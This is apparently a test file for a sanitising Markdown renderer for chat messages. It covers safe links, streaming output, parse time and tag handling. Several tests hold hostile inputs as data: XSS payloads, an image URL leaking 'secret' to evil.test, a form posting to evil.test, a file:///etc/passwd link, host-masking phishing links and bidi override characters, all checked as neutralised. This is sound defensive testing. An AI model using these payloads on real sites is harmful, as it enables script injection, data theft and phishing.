import assert from "node:assert/strict";
import { test } from "node:test";
import { renderToString } from "preact-render-to-string";
import { Reader } from "../src/markdown/reader";
import { Markdown, safeHref } from "../src/markdown/markdown";

const html = (text: string) => renderToString(<Markdown text={text} />);

test("only addresses of the web and of mail are linked", () => {
  assert.equal(safeHref("https://example.org/a?b#c"), "https://example.org/a?b#c");
  assert.equal(safeHref("mailto:a@example.org"), "mailto:a@example.org");
  const refused = ["javascript:alert(1)", " JaVaScRiPt:alert(1)", "java\nscript:alert(1)", "data:text/html,x", "vbscript:x",
    "file:///etc/passwd", "blob:https://example.org/1", "//example.org", "/omega", "#top", "", "https://"];
  for (const href of refused) assert.equal(safeHref(href), null, href);
});

test("a link tells its target nothing and may do nothing here", () => {
  assert.equal(
    html("[docs](https://example.org/a)"),
    '<div class="prose"><p><a href="https://example.org/a" title="https://example.org/a" target="_blank" rel="noopener noreferrer nofollow ugc">docs</a></p></div>',
  );
});

test("no message makes an element that loads, runs or frames anything", () => {
  const hostile = [
    "![x](http://evil.test/?q=secret)", "![x](data:image/svg+xml,<svg onload=alert(1)>)", "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "text <svg/onload=alert(1)> text",
    "[x](javascript:alert(1))", "[x](java&#115;cript:alert(1))", "[x]: javascript:alert(1)\n[x]", "<javascript:alert(1)>",
    "<a href='javascript:alert(1)' style='position:fixed'>x</a>", "`<b>`\n\n```html\n<script>alert(1)</script>\n```",
    "| <script>alert(1)</script> |\n|--|\n| <img src=x onerror=alert(1)> |", "- <form action=//evil.test><input>", "# <style>*{}</style>",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "[x](https://example.org \"t\\\" onmouseover=alert(1)\")", "<!-- <script>alert(1)</script> -->",
  ];
  const allowed = new Set(["div", "p", "a", "span", "code", "pre", "figure", "figcaption", "button", "table", "thead", "tbody",
    "tr", "th", "td", "ul", "li", "h3", "em", "strong"]);
  for (const text of hostile) {
    // The icons of the page's own buttons are no message's.
    const drawn = html(text).replace(/<svg [^]*?<\/svg>/g, "");
    for (const [, tag] of drawn.matchAll(/<\/?([a-z0-9]+)/gi)) assert.ok(allowed.has(String(tag)), `${text} -> ${drawn}`);
    for (const [, attribute] of drawn.matchAll(/<[a-z0-9]+[^>]*?\s(on[a-z]+|style|src|srcdoc)=/gi)) {
      assert.fail(`${text} -> ${attribute} in ${drawn}`);
    }
    for (const [, href] of drawn.matchAll(/href="([^"]*)"/g)) assert.match(String(href), /^https?:/, text);
  }
});

test("an image is a link that says so", () => {
  const drawn = html("![a robot](https://example.org/robot.png)");
  assert.match(drawn, /<a href="https:\/\/example\.org\/robot\.png"[^>]*>\[image: a robot\]<\/a>/);
});

test("the usual Markdown becomes what it means", () => {
  const drawn = html("# T\n\n**b** _e_ ~~d~~ `c`\n\n1. one\n2. two\n\n- [x] done\n\n> q\n\n|a|b|\n|:-|-:|\n|1|2|\n\n```js\nx &amp; y\n```\n\na &amp; b\n\n---");
  for (const part of ["<h3>T</h3>", "<strong>b</strong>", "<em>e</em>", "<del>d</del>", "<code>c</code>", '<ol start="1"><li>',
    'aria-label="done"', "<blockquote><p>q</p></blockquote>", '<td class="align-right">2</td>', "<code>x &amp;amp; y</code>", "<p>a &amp; b</p>", "<hr/>"]) {
    assert.ok(drawn.includes(part), `${part} in ${drawn}`);
  }
});

test("headings never skip a level", () => {
  const levels = [...html("## a\n\n#### b\n\n# c\n\n###### d\n\n# e").matchAll(/<h(\d)>/g)].map(([, level]) => Number(level));
  assert.deepEqual(levels, [3, 4, 3, 4, 3]);
});

test("a message that is not finished Markdown is drawn all the same", () => {
  const text = "# T\n\n**b [l](https://x.y \n```js\n| a |\n|--|\n- > `";
  for (let at = 0; at <= text.length; at += 1) assert.ok(html(text.slice(0, at)).startsWith('<div class="prose">'));
});

test("hostile Markdown is drawn in time that grows with its length, or as the text it is", () => {
  const units = ["*a ", "**a **", "_a_b", "`", "`a", "``a`", "[", "[a](", "[a][b]", "![a", "<", "<a ", "<!--", "<![CDATA[", "> ", ">> a\n",
    "- ", "- a\n  ", "1. a\n", "1. ", "|a", "|a|b|\n|-|-|\n", "# ", "~~~\n", "[a]: b\n", "a\n\n", "a  \n", "*", "_", "a*", "***a", "~~a",
    "\\", "&amp;", "http://a.b ", "www.a.b", "a@b.c ", "<a@b.c", "\t", "    a\n", "+ ", "a*b_c", "*a_", "_*", "-", "- [ ] a\n", "||\n",
    "<div>\n", "</", "<b>a", "- > ", "> - ", "* a\n\n  "];
  const drawn = (unit: string, length: number) => {
    const text = unit.repeat(Math.ceil(length / unit.length));
    let least = Number.POSITIVE_INFINITY;
    for (let tries = 0; tries < 3; tries += 1) {
      const before = process.cpuUsage();
      html(text);
      const used = process.cpuUsage(before);
      least = Math.min(least, (used.user + used.system) / 1000);
    }
    return least;
  };
  for (const unit of units) {
    // The engine's own threads count too, and are at work when they like: what is quadratic is so each time.
    const tries: (readonly [number, number])[] = [];
    const isLinear = () => tries.some(([once, twice]) => twice < 40 || twice < 3 * once);
    while (tries.length < 3 && !isLinear()) tries.push([drawn(unit, 20_000), drawn(unit, 40_000)]);
    assert.ok(isLinear(), `${JSON.stringify(unit)}: ${tries.join("; ")} ms`);
  }
});

test("long answers of every day are read as Markdown", () => {
  const table = `| a | b |\n|---|---|\n${"| **x** | `y` |\n".repeat(500)}`;
  const list = "- *one* and [two](https://example.org)\n".repeat(800);
  const code = `\`\`\`c\n${"int *a = b[0] & c[1];\n".repeat(800)}\`\`\`\n`;
  const prose = "Some **strong** and _soft_ words with `code`.\n\n".repeat(500);
  for (const [text, tag] of [[table, "<table>"], [list, "<ul>"], [code, "<figure"], [prose, "<strong>"]] as const) {
    assert.ok(html(text).includes(tag), tag);
  }
});

const everything = [
  "# Title with **bold**", "A paragraph with `code`, *words*, [a link](https://example.org/a_b) and a mark[^1].\nIts second line.",
  "## Below", "#### Deeper", "- one\n- two\n  - nested\n\n  more of two\n- [ ] open\n- [x] done", "3. three\n4. four",
  "| a | b |\n|---|:-:|\n| 1 | **2** |\n| 3 | 4 |", "```rust\nfn main() {\n\n    let a = [1]: b;\n}\n```", "> quoted\n> > twice\n\n> again",
  "[named][ref] and [other]", "Setext\n======", "---", "$$\n\\int_0^1 x^2\\,dx\n$$", "Sums \\(a_1*b\\) and $x^2$ for $5 and $6.", "<div>raw</div>", "    indented\n    code",
  '[ref]: https://example.org/ref "t"\n[other]: https://example.org/other', "[^1]: The note with **words**.\n[^two]: Another.", "The end.",
];

test("however a text is cut, the same comes out in the end as from the whole of it", () => {
  const text = everything.join("\n\n");
  const whole = new Reader().read(text, true);
  assert.ok(whole.blocks && whole.blocks.length > 20);
  for (let seed = 1; seed <= 300; seed += 1) {
    const reader = new Reader();
    let state = seed;
    const next = (most: number) => (state = (state * 48_271) % 2_147_483_647) % most;
    // From single characters to whole pages.
    const longest = [1, 3, 10, 80, 400][seed % 5] ?? 1;
    for (let at = 0; at < text.length; at += 1 + next(longest)) reader.read(text.slice(0, at), false);
    assert.equal(JSON.stringify(reader.read(text, true)), JSON.stringify(whole), `seed ${seed}`);
  }
});

test("what is finished stays the same object while the rest streams", () => {
  const text = everything.join("\n\n");
  const reader = new Reader();
  let before = reader.read("", false).blocks ?? [];
  for (let at = 1; at <= text.length; at += 1) {
    const now = reader.read(text.slice(0, at), false).blocks ?? [];
    const kept = before.filter((block, n) => now[n] === block).length;
    // All but the last block and the blank lines around it.
    assert.ok(kept >= before.length - 4, `${kept} of ${before.length} at ${at}`);
    before = now;
  }
});

test("an open end is shown as what it will be", () => {
  const streaming = (text: string) => renderToString(<Markdown text={text} streaming />);
  for (const [text, is, isNot] of [
    ["so **bo", "<strong>bo</strong>", "**"],
    ["so **", "<p>so</p>", "**"],
    ["so `co", "<code>co</code>", "`"],
    ["see [the do", "see the do", "["],
    ["see [the docs](https://exa", "see the docs", "https"],
    ["| a | b |", "<th", "|"],
    ["| a | b |\n|-", "<th", "|"],
    ["| a | b |\n|--|--|\n| 1", "<td>1</td>", "|"],
    ["text\n\n- ", "<p>text</p>", "<ul>"],
    ["text\n=", "<p>text</p>", ">="],
    ["```js\nlet a", "let a", "`"],
    ["~~go", "<del>go</del>", "~"],
  ] as const) {
    const drawn = streaming(text).replace(/<button.*?<\/button>/g, "");
    assert.ok(drawn.includes(is), `${JSON.stringify(text)}: ${drawn}`);
    assert.ok(!drawn.includes(isNot), `${JSON.stringify(text)}: ${drawn}`);
  }
});

test("a long answer that streams takes time by its length", () => {
  const text = everything.slice(0, 9).join("\n\n").concat("\n\n").repeat(60);
  const reading = (length: number) => {
    const reader = new Reader();
    const before = process.cpuUsage();
    for (let at = 0; at < length; at += 40) reader.read(text.slice(0, at), false);
    const used = process.cpuUsage(before);
    return (used.user + used.system) / 1000;
  };
  const tries: (readonly [number, number])[] = [];
  const isLinear = () => tries.some(([once, twice]) => twice < 3 * once);
  while (tries.length < 3 && !isLinear()) tries.push([reading(15_000), reading(30_000)]);
  assert.ok(isLinear(), tries.join("; "));
});

test("a formula is left as it was written, and a price is no formula", () => {
  for (const formula of ["$$\\int_0^1 x^2\\,dx$$", "\\(a_1 * b_2 * c\\)", "\\[\\frac{1}{2}\\]", "$a_1 + b_1$"]) {
    assert.match(html(`So ${formula} it is`), /<span class="formula">/, formula);
    assert.ok(html(`So ${formula} it is`).includes(formula), formula);
  }
  assert.ok(!html("It costs $5 and $6, or $7-$8.").includes("formula"));
});

test("a footnote's mark leads to its note and back, within the message alone", () => {
  const drawn = html("Text[^1].\n\n[^1]: The note.");
  assert.match(drawn, /<sup><button [^>]*aria-label="footnote 1"/);
  assert.match(drawn, /aria-label="footnotes"/);
  assert.ok(!drawn.includes("href"), drawn);
});

test("a link whose words name another place says where it leads", () => {
  for (const [text, host] of [
    ["[https://paypal.com](https://evil.example/x)", "(evil.example)"],
    ["[paypal.com/login](https://paypal.com.evil.example)", "(paypal.com.evil.example)"],
    ["[www.bank.example](https://bank.example.evil.test:8080/)", "(bank.example.evil.test:8080)"],
    ["[safe](https://apple.com@evil.example/)", "(evil.example)"],
    ["[me@bank.example](mailto:you@evil.example)", "(you@evil.example)"],
    ["[ｐａｙｐａｌ.com](https://evil.example/)", "(evil.example)"],
    ["[**paypal**.com](https://evil.example/)", "(evil.example)"],
    ["![paypal.com](https://evil.example/x.png)", "(evil.example)"],
  ] as const) assert.ok(html(text).includes(host), `${text}: ${html(text)}`);
  for (const text of ["[docs](https://example.org)", "[example.org](https://www.example.org/a)", "[e.g. this](https://example.org)", "https://example.org/a.html", "[v1.2](https://example.org)", "<me@example.org>"]) {
    assert.ok(!html(text).includes("real-host"), text);
  }
});

test("nothing turns the words around it", () => {
  for (const text of ["a \u202eb", "`a \u202eb`", "&#x202e;", "| a |\n|-|\n| \u202d |", "<b>\u202e</b>", "[\u202ea](https://example.org)", "$$\u202e$$", "[^1]\n\n[^1]: \u202e"]) {
    assert.ok(!/[\u202a-\u202e]/.test(html(text).replace(/(?:href|title)="[^"]*"/g, "")), JSON.stringify(text));
  }
  assert.ok(!/[\u2066-\u2069\u200b]/.test(html("```js\n/*\u2066 } \u2069 if\u200b */\n```")));
});

test("the tags that models write become what they mean, in pairs and without attributes", () => {
  const cases: [string, string][] = [
    ["H<sub>2</sub>O, x<sup>n<sub>i</sub></sup>", "<p>H<sub>2</sub>O, x<sup>n<sub>i</sub></sup></p>"],
    ["press <kbd>Ctrl</kbd>+<KBD>C</KBD>", "<p>press <kbd>Ctrl</kbd>+<kbd>C</kbd></p>"],
    ["a<br>b<br/>c<br />d", "<p>a<br/>b<br/>c<br/>d</p>"],
    ["<b>**x** and <i>y</i></b>", "<p><b><strong>x</strong> and <i>y</i></b></p>"],
    ["<b>open", "<p>&lt;b>open</p>"],
    ["</b> closed, <b>crossed <i>over</b> here</i>", "<p>&lt;/b> closed, <b>crossed &lt;i>over</b> here&lt;/i></p>"],
    ["<b id=x>no</b>", "<p>&lt;b id=x>no&lt;/b></p>"],
  ];
  for (const [text, right] of cases) assert.equal(html(text).replace(/^<div class="prose">|<\/div>$/g, ""), right, text);
  assert.ok(html("| a |\n|---|\n| one<br>two |").includes("one<br/>two"));
  const deep = html("<b>".repeat(5000) + "x" + "</b>".repeat(5000));
  assert.ok((deep.match(/<b>/g)?.length ?? 0) <= 8);
});

test("what is folded opens, and what only looks like it is text", () => {
  const folded = "before\n\n<details>\n<summary>More <b>of</b> it</summary>\n\nHidden **words**\n\n- point\n\n</details>\n\nbehind";
  assert.match(html(folded), /<details class="fold"><summary>More of it<\/summary><p>Hidden <strong>words<\/strong><\/p><ul>[^]*<\/ul><\/details><p>behind<\/p>/);
  assert.match(html("<details><summary>a</summary>b</details>"), /<details class="fold"><summary>a<\/summary><p>b<\/p><\/details>/);
  assert.match(html("<details>\n\none\n\n<details>\n\ntwo\n\n</details>\n\n</details>\n\nthree"), /<summary>more<\/summary><p>one<\/p><details class="fold"><summary>more<\/summary><p>two<\/p><\/details><\/details><p>three<\/p>/);
  for (const text of ["<details>\n\nnever closed", "</details>", "<details open ontoggle=x()>\n\na\n\n</details>"]) assert.ok(!html(text).includes("<details"), text);
  assert.match(renderToString(<Markdown text={"<details>\n<summary>a</summary>\n\nso far"} streaming />), /<details class="fold"><summary>a<\/summary><p>so far<\/p><\/details>/);
});

test("no mark is seen while a text streams, wherever it is cut", () => {
  const kinds = [
    "Some **bold and *leaning* words**, then ***both*** and ~~gone~~ and __strong__ and _soft_ ends.",
    "Code `let x = 1` and ``a ` b`` in a line.",
    "A [link with words](https://example.org/a_b?c=d*e) and ![a picture](https://example.org/p.png) here.",
    "A link [by name][one] and a note[^1].\n\n[one]: https://example.org\n\n[^1]: The note.",
    "# One\n\n## Two **bold**\n\nUnder\n=====\n\nword",
    "| Name | Value |\n|:-----|------:|\n| a `b` | **1** |\n| c | 2 |\n\nbehind",
    "- one\n- two **bold**\n  - deep `code`\n- [x] done\n- [ ] open\n\n1. first\n2. second",
    "> quoted **bold**\n> and more\n\nbehind",
    "```rust\nlet a = \"**\";\n```\n\n~~~\n# no\n~~~\n\nbehind",
    "The sum $\\sum_{i=1}^n x_i$ and\n\n$$\\int_0^1 x^2\\,dx = \\frac13$$\n\nor \\(a+b\\) and\n\n\\[c^2\\]\n\nbehind",
    "H<sub>2</sub>O and <kbd>Ctrl</kbd><br>x\n\n<details>\n<summary>More</summary>\n\nwords\n\n</details>\n\nbehind",
    "before\n\n---\n\nbehind\n\n***\n\nend",
  ];
  const marks = /\*\*|~~|(?<!`)`(?!`)|\]\(|\]\[|\[\^|^#{1,6} |^\||^> |^- |<\/?[a-z]*>?$|<(sub|kbd|br|details|summary)|\$\$|\\\[|\\\(|\[[x ]\]|^={2,}/m;
  const seen: string[] = [];
  for (const text of kinds) {
    for (let at = 1; at <= text.length; at += 1) {
      const drawn = renderToString(<Markdown text={text.slice(0, at)} streaming={at < text.length} />);
      const words = drawn
        .replace(/<svg [^]*?<\/svg>/g, "").replace(/<(figure|span|p)[^>]*class="(?:code|formula)[^]*?<\/\1>/g, "")
        .replace(/<code>[^]*?<\/code>/g, "code").replace(/<\/(p|li|h\d|td|th|tr)>|<br\/>/g, "\n").replace(/<[^>]*>/g, "").replaceAll("&lt;", "<").replaceAll("&gt;", ">");
      const found = marks.exec(words);
      if (found) seen.push(`${JSON.stringify(text.slice(Math.max(0, at - 40), at))} shows ${JSON.stringify(found[0])}: ${JSON.stringify(words.slice(-60))}`);
    }
  }
  assert.deepEqual(seen, []);
});
